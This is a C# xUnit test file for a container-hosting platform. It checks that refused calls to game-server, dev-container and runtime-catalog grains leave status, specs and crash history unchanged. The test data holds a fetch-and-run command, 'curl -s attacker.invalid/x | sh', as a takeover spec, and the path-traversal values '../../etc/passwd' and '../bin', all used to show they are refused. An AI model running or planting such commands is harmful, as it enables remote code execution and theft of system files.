using System.Text.Json;
using ZlhGrind.Grains.Agents;
using ZlhGrind.Grains.Containers;
using ZlhGrind.Grains.DevContainers;
using ZlhGrind.Grains.GameServers;
using ZlhGrind.Grains.Runtimes;
using ZlhGrind.Silo.Tests.TestSupport;
using static ZlhGrind.Silo.Tests.TestSupport.Scenario;

namespace ZlhGrind.Silo.Tests.Grains;

/// <summary>
/// Issue 11: state changes only after every check passed. Each refused call leaves the grain's status, desired spec
/// (and crash history) exactly as they were, in memory and in storage (read back by a new activation).
/// </summary>
public sealed class RefusedCallsTests(FakeClockClusterFixture fixture) : IClassFixture<FakeClockClusterFixture>
{
    private static readonly GameServerSpec Takeover = new("generic", "curl -s attacker.invalid/x | sh", "stop", 1024);

    private IClusterClient Client => fixture.Client;

    [Fact]
    public async Task ProvisionGame_OverAnExistingId_ConflictAndTheVictimsSpecIsKept()
    {
        var (grain, credential) = await GameAsync(Client);
        var id = grain.GetPrimaryKeyLong();

        await RefusedAsync<ContainerConflictException>(grain, credential, () => grain.ProvisionAsync(Bob, Takeover), $"Container {id} is already provisioned.");
        await RefusedAsync<ContainerConflictException>(grain, credential, () => grain.ProvisionAsync(Ops, Takeover), $"Container {id} is already provisioned.");
        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.ProvisionAsync(Bob, Takeover with { Template = "Bad" }), "template must be 1-32 characters of a-z, 0-9 and '-'.");
        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.ProvisionAsync(new Actor(" ", false), Takeover), "A container needs an owner.");

        CallAs.Agent(id, credential);
        Assert.Equal(Minecraft, (await grain.GetDesiredSpecAsync()).Game!.Spec with { Variables = null, Launch = null });
    }

    [Fact]
    public async Task Power_Refused_NothingChanges()
    {
        var (grain, credential) = await GameAsync(Client);
        var id = grain.GetPrimaryKeyLong();

        await RefusedAsync<ContainerNotFoundException>(grain, credential, () => grain.PowerAsync(Bob, PowerAction.Kill), $"Container {id} was not found.");
        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.PowerAsync(Alice, (PowerAction)99), "Unknown power action 99.");
        await RefusedAsync<ContainerConflictException>(grain, credential, () => grain.PowerAsync(Alice, PowerAction.Start), $"Game server {id} is still provisioning; it can start once installed.");
    }

    [Fact]
    public async Task AgentCalls_OverALimit_RefusedNamingTheFieldAndNothingChanges()
    {
        var (grain, credential) = await GameAsync(Client);
        var instance = Guid.NewGuid();
        var tooMany = Enumerable.Range(1, 101).Select(i => (AgentEvent)new GameStateChanged(i, DateTimeOffset.UnixEpoch, GameServerState.Installing, null)).ToArray();
        var observer = Client.CreateObjectReference<IAgentObserver>(new RecordingObserver());

        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.ReportAsync(new AgentReport(instance, tooMany, 0)), "report.events has 101 entries; at most 100 are taken.");
        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.ReportAsync(new AgentReport(instance, [], -1)), "report.droppedEvents must be at least 0.");
        await RefusedAsync<InvalidRequestException>(
            grain, credential, () => grain.HeartbeatAsync(Heartbeat(instance) with { AgentVersion = new string('v', 65) }).AsTask(), "heartbeat.agentVersion is 65 characters; at most 64 are taken.");
        await RefusedAsync<InvalidRequestException>(
            grain, credential, () => grain.HeartbeatAsync(Heartbeat(instance) with { CpuPercent = double.NaN }).AsTask(), "heartbeat.cpuPercent must be a finite number of at least 0.");
        await RefusedAsync<InvalidRequestException>(
            grain, credential, () => grain.ConnectAgentAsync(new AgentHello(instance, new string('v', 65), DateTimeOffset.UnixEpoch), observer), "hello.agentVersion is 65 characters; at most 64 are taken.");
        Client.DeleteObjectReference<IAgentObserver>(observer);
    }

    [Fact]
    public async Task Report_RefusedEvents_NamedInTheAckAndNothingOfThemStored()
    {
        var (grain, credential) = await GameAsync(Client);
        var id = grain.GetPrimaryKeyLong();
        var before = await ViewAsync(grain, credential);
        var oversized = GameServerGrainTests.Crash(1) with { LogTail = new string('x', AgentInputLimits.CrashLogTail + 1) };

        CallAs.Agent(id, credential);
        var ack = await grain.ReportAsync(new AgentReport(Guid.NewGuid(), [
            new GameCrashed(1, DateTimeOffset.UnixEpoch, oversized),
            new GameStateChanged(2, DateTimeOffset.UnixEpoch, GameServerState.Running, null),
            new GameStateChanged(3, DateTimeOffset.UnixEpoch, GameServerState.Error, new string('r', AgentInputLimits.Reason + 1)),
        ], 0));

        Assert.Equal(3, ack.AppliedThrough);
        Assert.Equal(
            [
                "#1: crash.logTail is 16385 characters; at most 16384 are taken.",
                "#2: A game server cannot go from Provisioning to Running.",
                "#3: reason is 4097 characters; at most 4096 are taken.",
            ],
            ack.Rejected);
        Assert.Equal(before, await ViewAsync(grain, credential));
        await DeactivateAsync(grain);
        Assert.Equal(before, await ViewAsync(grain, credential));
    }

    [Fact]
    public async Task Report_CrashNamingAPathAsAChangedMod_RefusedAndNothingStored()
    {
        var (grain, credential) = await GameAsync(Client);
        var id = grain.GetPrimaryKeyLong();
        var before = await ViewAsync(grain, credential);
        var hostile = GameServerGrainTests.Crash(1) with { ChangedMods = ["ok.jar", "../../etc/passwd"] };

        CallAs.Agent(id, credential);
        var ack = await grain.ReportAsync(new AgentReport(Guid.NewGuid(), [new GameCrashed(1, DateTimeOffset.UnixEpoch, hostile)], 0));

        Assert.Equal(["#1: crash.changedMods holds a name that is not a mod name."], ack.Rejected);
        Assert.Equal(before, await ViewAsync(grain, credential));
    }

    [Fact]
    public async Task ProvisionDev_OverAnExistingId_ConflictAndTheSpecIsKept()
    {
        var (grain, credential) = await DevAsync(Client);
        var id = grain.GetPrimaryKeyLong();

        await RefusedAsync<ContainerConflictException>(grain, credential, () => grain.ProvisionAsync(Bob, new DevContainerSpec("node", null, false)), $"Container {id} is already provisioned.");
        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.ProvisionAsync(Bob, new DevContainerSpec(" ", null, false)), "A dev container needs a runtime.");
    }

    [Fact]
    public async Task DevContainerActions_Refused_NothingChanges()
    {
        var (grain, credential) = await DevAsync(Client);
        var (closed, closedCredential) = await DevAsync(Client, codeServer: false);
        var id = grain.GetPrimaryKeyLong();

        await RefusedAsync<ContainerNotFoundException>(grain, credential, () => grain.CodeServerAsync(Bob, CodeServerAction.Stop), $"Container {id} was not found.");
        await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.CodeServerAsync(Alice, (CodeServerAction)9), "Unknown code-server action 9.");
        await RefusedAsync<ContainerNotFoundException>(grain, credential, () => grain.IssueIdeTokenAsync(Bob), $"Container {id} was not found.");
        await RefusedAsync<ContainerNotFoundException>(grain, credential, () => grain.RevokeIdeSessionsAsync(Bob), $"Container {id} was not found.");
        await RefusedAsync<ContainerConflictException>(
            closed, closedCredential, () => closed.IssueIdeTokenAsync(Alice), $"code-server is not enabled for container {closed.GetPrimaryKeyLong()}.");
        await RefusedAsync<InvalidRequestException>(
            grain,
            credential,
            () => grain.HeartbeatAsync(Heartbeat(Guid.NewGuid()) with { Dev = new DevObserved(DevContainerState.Ready, CodeServerState.Running, "10.0.0.9:8080", ManyRuntimes(20_000), null) }).AsTask(),
            "heartbeat.dev.runtimes has 20000 entries; at most 64 are taken.");
    }

    [Fact]
    public async Task RedeemIdeToken_UnknownToken_LeavesTheIssuedTokenRedeemable()
    {
        var (grain, _) = await DevAsync(Client);
        CallAs.Gateway();
        var grant = await grain.IssueIdeTokenAsync(Alice);

        Assert.Equal(IdeAccessStatus.Unknown, (await grain.RedeemIdeTokenAsync(grant.Token[..^1] + "_")).Status);
        await DeactivateAsync(grain);

        CallAs.Gateway();
        Assert.Equal(IdeAccessStatus.Accepted, (await grain.RedeemIdeTokenAsync(grant.Token)).Status);
    }

    [Fact]
    public async Task Catalog_RefusedChanges_LeaveTheCatalogAsItWas()
    {
        var catalog = Client.GetGrain<IRuntimeCatalogGrain>("refused-" + Guid.NewGuid());
        CallAs.Operator();
        await catalog.AddAsync(Node());
        var before = JsonSerializer.Serialize(await catalog.GetAsync());

        await CatalogRefusedAsync<ContainerConflictException>(
            catalog, () => catalog.AddAsync(Node() with { Sha256 = new string('b', 64) }), "node 22.1.0 is already in the catalog with other contents; publish a new version instead.");
        await CatalogRefusedAsync<InvalidRequestException>(catalog, () => catalog.AddAsync(Node() with { Name = "zig", BinPath = "../bin" }), "binPath must be a relative path inside the runtime (no '..', not absolute).");
        await CatalogRefusedAsync<InvalidRequestException>(catalog, () => catalog.PromoteAsync("node", "9.9.9"), "Runtime 'node' has no version '9.9.9'. Known: 22.1.0.");
        await CatalogRefusedAsync<ContainerConflictException>(catalog, () => catalog.RollbackAsync("node"), "Runtime 'node' has no earlier promoted version to roll back to.");

        async Task CatalogRefusedAsync<TException>(IRuntimeCatalogGrain target, Func<Task> call, string message)
            where TException : Exception
        {
            CallAs.Operator();
            Assert.Equal(message, (await Assert.ThrowsAsync<TException>(call)).Message);
            CallAs.Operator();
            Assert.Equal(before, JsonSerializer.Serialize(await target.GetAsync()));
            await DeactivateAsync(target);
            CallAs.Operator();
            Assert.Equal(before, JsonSerializer.Serialize(await target.GetAsync()));
        }
    }

    internal static IReadOnlyList<InstalledRuntime> ManyRuntimes(int count) =>
        Enumerable.Range(0, count).Select(i => new InstalledRuntime("r" + i, "1.0." + i, Active: false)).ToArray();

    /// <summary>
    /// Makes <paramref name="call"/> as the gateway and the container's own agent at once (so it is refused for what it
    /// asks, not for who asks); it must throw exactly, and nothing may change in memory or in storage.
    /// </summary>
    private async Task RefusedAsync<TException>(IContainerGrain grain, string credential, Func<Task> call, string message)
        where TException : Exception
    {
        var before = await ViewAsync(grain, credential);

        CallAs.GatewayAndAgent(grain.GetPrimaryKeyLong(), credential);
        var error = await Assert.ThrowsAsync<TException>(call);

        Assert.Equal(message, error.Message);
        Assert.Equal(before, await ViewAsync(grain, credential));
        await DeactivateAsync(grain);
        Assert.Equal(before, await ViewAsync(grain, credential));
    }

    /// <summary>What is stored of a container, as the gateway and its agent read it.</summary>
    private static async Task<string> ViewAsync(IContainerGrain grain, string credential)
    {
        CallAs.Gateway();
        var status = await grain.GetStatusAsync(Ops);
        var crashes = grain is IGameServerGrain game ? await game.GetCrashesAsync(Ops) : [];
        CallAs.Agent(grain.GetPrimaryKeyLong(), credential);
        var spec = await grain.GetDesiredSpecAsync();
        return JsonSerializer.Serialize(new { status, spec, crashes });
    }

    private async Task DeactivateAsync(IAddressable grain)
    {
        CallAs.Gateway();
        await fixture.Cluster.DeactivateAsync(grain);
    }
}
